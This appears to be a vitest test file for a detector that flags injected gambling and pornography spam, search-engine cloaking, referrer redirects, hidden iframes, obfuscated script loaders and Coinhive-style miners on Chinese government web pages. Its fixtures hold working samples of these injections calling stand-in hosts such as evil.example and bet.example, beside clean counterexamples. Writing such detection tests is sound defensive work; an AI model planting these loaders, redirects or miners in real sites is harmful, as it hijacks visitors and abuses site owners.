import { describe, expect, it } from 'vitest';
import { siteViewWith, viewOfPage } from '../../../test/site-view.ts';
import { judgeRule } from '../judge.ts';
import { injectedContent, minerScripts } from './03-injected-content.ts';

const URL_OF_PAGE = 'https://www.somecity.gov.cn/';

function answerTo(head: string, body = '<p>本市召开会议。</p>', rule = injectedContent) {
  const page = `<!doctype html><html><head><meta charset="utf-8">${head}</head><body>${body}</body></html>`;
  return judgeRule(rule, viewOfPage(page, URL_OF_PAGE), 'zh');
}

const TITLE = '<title>某市人民政府门户网站</title>';
/** 北京赛车投注平台, 头头体育官网 in numeric references, as intruders write them. */
const CODED_BETTING = '&#21271;&#20140;&#36187;&#36710;&#25237;&#27880;&#24179;&#21488;';
const CODED_SPORT = '&#22836;&#22836;&#124;&#20307;&#32946;&#45;&#23448;&#32593;';
/** 某市人民政府门户网站 in hexadecimal references, as some programs write every Chinese letter. */
const CODED_HONEST = '&#x67D0;&#x5E02;&#x4EBA;&#x6C11;&#x653F;&#x5E9C;&#x95E8;&#x6237;&#x7F51;&#x7AD9;';

/** `window["document"]["write"]('<script src="https://evil.example/cp.js"></script>')`, packed as such code is. */
const PACKED = `eval(function(p,a,c,k,e,r){e=function(c){return c.toString(a)};if(!''.replace(/^/,String)){while(c--)r[e(c)]=k[c]||e(c);k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('1["2"]["3"](\\'<0 4="5/6" 7="8://9.a/b.c"></0>\\');',13,13,'script|window|document|write|type|text|javascript|src|https|evil|example|cp|js'.split('|'),0,{}))`;

function hex(text: string): string {
  return Array.from(text, (sign) => `\\x${sign.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
}

describe('advertising of vice and code that shows search engines something else', () => {
  const FOUND: Readonly<Record<string, [head: string, body?: string]>> = {
    'a title of betting in plain words': ['<title>亚博体育官网-亚博体育app下载</title>'],
    'a title of betting in numeric references': [`<title>${CODED_BETTING}</title>`],
    'keywords of a casino': [`${TITLE}<meta name="keywords" content="澳门新葡京官网,新葡京娱乐">`],
    'a description of a game of chance': [
      `${TITLE}<meta name="description" content="【必威体育APP下载】为您提供真人百家乐">`,
    ],
    'a title that only the Baidu spider keeps': [
      `<title>${CODED_SPORT}</title><script>if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){document.title ="某市人民政府"}</script>`,
    ],
    'a title that several spiders keep': [
      `${TITLE}<script>if(!navigator.userAgent.match(/baiduspider|sogou|360spider|yisou/i)){document.title ='某市人民政府'}</script>`,
    ],
    'a redirect of those who come from search engines': [
      `${TITLE}<script>var s=document.referrer;if(s.indexOf("baidu")>0||s.indexOf("sogou")>0||s.indexOf("soso")>0){location.href="https://bet.example/";}</script>`,
    ],
    'the same by a regular expression': [
      `${TITLE}<script>if(/baidu|sogou|so\\.com|bing/i.test(document.referrer)){window.location.replace('http://bet.example/?a=1')}</script>`,
    ],
    'the same written by writeln': [
      `${TITLE}<script>document.writeln("var s=document.referrer");document.writeln("if(s.indexOf(\\"baidu\\")>0 || s.indexOf(\\"sogou\\")>0)");document.writeln("location.href=\\"https://bet.example\\";");</script>`,
    ],
    'the same in hexadecimal letters and an array of names': [
      `${TITLE}<script>var _x=["${hex('referrer')}","${hex('baidu')}","${hex('indexOf')}","${hex('sogou')}","${hex('href')}","${hex('http://bet.example/')}"];(function(){var r=document[_x[0]];if(r[_x[2]](_x[1])>0||r[_x[2]](_x[3])>0){location[_x[4]]=_x[5]}})()</script>`,
    ],
    'pages that only spiders are given': [
      `${TITLE}<script>if(/baiduspider|googlebot/i.test(navigator.userAgent)){document.write('<scr'+'ipt src="http://evil.example/a.js"></scr'+'ipt>')}</script>`,
    ],
    'visible links of betting': [
      TITLE,
      '<a href="http://b.example/">重庆时时彩平台</a><a href="http://c.example/">新葡京网址</a>',
    ],
    'hidden words of betting without a link': [
      TITLE,
      '<div style="position:absolute;left:-9999px">真人百家乐 澳门威尼斯人官网 时时彩平台</div>',
    ],
    'titles of pornography': ['<title>亚洲精品无码在线观看_熟女乱伦</title>'],
  };

  it.each(Object.entries(FOUND))('is found: %s', (_, [head, body]) => {
    expect(answerTo(head, body)).toMatchObject({ code: 'found', verdict: 'unmet' });
  });
});

describe('what needs a person', () => {
  const DOUBTFUL: Readonly<Record<string, [head: string, body?: string]>> = {
    'a title in numeric references on a page without any other': [`<title>${CODED_HONEST}</title>`],
    'packed code that loads a script of another host': [`${TITLE}<script>${PACKED}</script>`],
    'letters in numbers that load a script of another host': [
      `${TITLE}<script>document.write(String.fromCharCode(${Array.from('<script src="https://evil.example/a.js"></script>', (sign) => sign.charCodeAt(0)).join(',')}))</script>`,
    ],
    'a script of another host whose address is in numeric references': [
      `${TITLE}<script src="${Array.from('https://evil.example/yb.js', (sign) => `&#${sign.charCodeAt(0)};`).join('')}"></script>`,
    ],
    'a frame of another host without a size': [
      TITLE,
      '<iframe src="http://evil.example/x.htm" width="0" height="0"></iframe>',
    ],
    'a frame of another host that is not shown': [
      TITLE,
      '<iframe src="http://evil.example/x.htm" style="display:none"></iframe>',
    ],
  };

  it.each(Object.entries(DOUBTFUL))('is left to one: %s', (_, [head, body]) => {
    expect(answerTo(head, body)).toMatchObject({ code: 'disguised', verdict: 'unknown' });
  });

  it('is a portrait that the item does not speak of', () => {
    const item = '<p>本市举办书画展，展出作品一百件，观众踊跃。</p>'.repeat(3);
    const portrait = '<p>关于专家组：张某某，毕业于某某学院，某某协会理事、某某公司董事长。</p>';
    expect(answerTo(TITLE, `${item}${portrait}`).code).toBe('promotion');
  });

  const ITEM = '<p>本市举办书画展，展出作品一百件，观众踊跃。</p>'.repeat(3);
  it.each([
    '甲某某（乙某）教师，某某大学国画高研班导师，某某艺术研究院客座教授，研究方向：美术史论。出版著作《某某作品全集》',
    '歌手、制片人、演员甲某某2002年7月出生于某某市，早年学习表演，在《某某》饰演女二号。',
  ])('is a portrait behind an item that nobody announces: %s', (portrait) => {
    expect(answerTo(TITLE, `${ITEM}<p>${portrait}</p>`).code).toBe('promotion');
  });

  it('is none where a meeting speaks of one word again and again', () => {
    const speech =
      '会议强调，民族工作是全局性工作，民族团结是各民族的生命线，民族地区要抓好民族政策落实，为民族事业作出贡献。';
    expect(answerTo(TITLE, `${ITEM}<p>${speech}</p>`).code).toBe('none');
  });

  it('is none on a page that lists people', () => {
    const people = ['甲某某', '乙某某', '丙某某', '丁某某'].map(
      (name) => `<p>${name}，教授，博士生导师，毕业于某某大学，研究方向：水利工程，代表作《某某》。</p>`,
    );
    expect(answerTo(TITLE, people.join('')).code).toBe('none');
  });
});

describe('what clean pages hold', () => {
  const CLEAN: Readonly<Record<string, [head: string, body?: string]>> = {
    'news of the police against gambling': [
      '<title>某市公安局打击网络赌博专项行动</title>',
      '<a href="/1.html">警方破获“亚博体育”跨境赌博案</a><a href="/2.html">警惕网上赌场诈骗陷阱</a><h1>某某等人开设赌场案一审宣判</h1>',
    ],
    'advice of the tax office': [
      '<title>自然人代开发票指南</title>',
      '<a href="/1.html">关于代开发票有关事项的公告</a><a href="/2.html">开具发票常见问题</a><h2>如何开具发票</h2>',
    ],
    'notices of the welfare lottery': [
      '<title>某省福利彩票发行中心</title><meta name="keywords" content="福利彩票,快3,双色球">',
      '<a href="/1.html">福利彩票投注站征召公告</a><a href="/2.html">快3开奖结果</a><a href="/3.html">体育彩票投注站点设置规划</a><a href="/4.html">中国体育彩票官网</a>',
    ],
    'services for identity cards': [
      TITLE,
      '<a href="/1.html">办理身份证</a><a href="/2.html">补办毕业证明书</a>',
    ],
    'news from Macau': [
      TITLE,
      '<a href="/1.html">粤港澳旅游展在澳门威尼斯人举行</a><a href="/2.html">澳门六家博彩公司续约</a>',
    ],
    'education for adults': [TITLE, '<a href="/1.html">成人高考报名</a><a href="/2.html">成人教育学院</a>'],
    'rules against services': [
      TITLE,
      '<a href="/1.html">严禁任何形式的代孕</a><a href="/2.html">网络棋牌游戏平台监管办法</a><a href="/3.html">农产品无码不得上市</a>',
    ],
    'warnings in a hidden pane': [
      TITLE,
      '<div style="display:none">拒绝线上赌场，远离真人百家乐，谨防网络赌博</div>',
    ],
    'every Chinese letter in references, as ASP.NET Core writes it': [
      `<title>${CODED_HONEST}</title>`,
      `<h1>${CODED_HONEST}</h1>${'<p>&#x901A;&#x77E5;&#x516C;&#x544A;</p>'.repeat(12)}`,
    ],
    'statistics that look at the referrer': [
      `${TITLE}<script>var _hmt=_hmt||[];var from=document.referrer;(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?0a1b";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s)})();</script>`,
    ],
    'a frame breaker that lets search engines pass': [
      `${TITLE}<script>if (top.location !== self.location && document.referrer.indexOf("baidu.com") < 0 && document.referrer.indexOf("google.com") < 0) { top.location.href = location.href; }</script>`,
    ],
    'a channel taken from the referrer': [
      `${TITLE}<script>if(document.referrer.indexOf("baidu")!=-1){document.cookie="channel=baidu;path=/"}document.getElementById('go').onclick=function(){window.open('http://www.map.example/')}</script>`,
    ],
    'the pusher of addresses to Baidu': [
      `${TITLE}<script>(function(){var bp=document.createElement('script');bp.src='//push.zhanzhang.baidu.com/push.js';var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(bp,s);})();</script>`,
    ],
    'the redirect to the page for telephones': [
      `${TITLE}<script>if(!/baiduspider|googlebot/i.test(navigator.userAgent)&&/Android|iPhone/i.test(navigator.userAgent)){location.href="https://m.somecity.gov.cn/"}</script>`,
    ],
    'a browser named after a search engine': [
      `${TITLE}<script>var ua=navigator.userAgent;if(ua.indexOf('baidubrowser')>0||ua.indexOf('SogouMobileBrowser')>0){location.href='/wap/'}</script>`,
    ],
    'the mark, written by a script': [
      `${TITLE}<script>document.write(unescape("%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='https://dcs.conac.cn/js/33/000/0000/60000000/CA330000000600000000001.js' type='text/javascript'%3E%3C/script%3E"));</script>`,
    ],
    'a packed library': [
      `${TITLE}<script>eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}('0.1=2(){3(4)};',5,5,'jQuery|slide|function|alert|tab'.split('|'),0,{}))</script>`,
    ],
    'a counter in a hidden frame of its own': [
      TITLE,
      '<iframe src="/module/visitcount/visit.jsp?i=1" style="display:none" width="0" height="0"></iframe><iframe src="https://sso.otherorgan.gov.cn/check" width="0" height="0"></iframe><iframe src="about:blank" style="display:none"></iframe>',
    ],
    'entities of ordinary signs in a title': ['<title>&#8220;十四五&#8221;规划&#8212;&#8212;某市</title>'],
  };

  it.each(Object.entries(CLEAN))('is not taken for an intrusion: %s', (_, [head, body]) => {
    const { code, facts } = answerTo(head, body);
    expect({ code, signs: facts.signs }).toEqual({ code: 'none', signs: undefined });
  });

  it('leaves the question open when no page was read', () => {
    const view = siteViewWith({}, { url: URL_OF_PAGE });
    for (const rule of [injectedContent, minerScripts])
      expect(judgeRule(rule, view, 'zh')).toMatchObject({ verdict: 'unknown', code: 'not-checked' });
  });
});

describe('mining scripts', () => {
  const LOADED = 'https://coinhive.com/lib/coinhive.min.js';
  it.each([
    ['loaded by name', `<script src="${LOADED}"></script>`],
    ['started in the page', `<script>var miner=new CoinHive.Anonymous('SITEKEY');miner.start();</script>`],
    [
      'of another maker',
      '<script src="//crypta.js.example/lib/crypta.js"></script><script>var m=new CRLT.Anonymous("key");m.start()</script>',
    ],
    [
      'in hexadecimal letters',
      `<script>window["${hex('document')}"]["${hex('write')}"]("${hex(`<script src='${LOADED}'></script>`)}")</script>`,
    ],
    [
      'in WebAssembly',
      '<script>fetch("/js/cryptonight.wasm").then(r=>r.arrayBuffer()).then(WebAssembly.compile)</script>',
    ],
    ['in a worker', '<script>var w=new Worker("/lib/deepMiner.js")</script>'],
  ])('are found when they are %s', (_, head) => {
    expect(answerTo(TITLE + head, undefined, minerScripts)).toMatchObject({
      code: 'found',
      verdict: 'unmet',
    });
  });

  it.each([
    ['switched off in a comment', `<!-- <script src="${LOADED}"></script> -->`],
    ['only spoken of', '<p>警惕网页挖矿：coinhive.min.js、CryptoNight 等脚本会占用计算机资源。</p>'],
    [
      'data of an item',
      '<script type="application/ld+json">{"headline":"整治虚拟货币挖矿 coinhive"}</script>',
    ],
    ['a miner of data', '<script>var dataMiner=new DataMiner();dataMiner.start();</script>'],
  ])('are not seen when they are %s', (_, head) => {
    expect(answerTo(TITLE, head, minerScripts).code).toBe('none');
  });
});
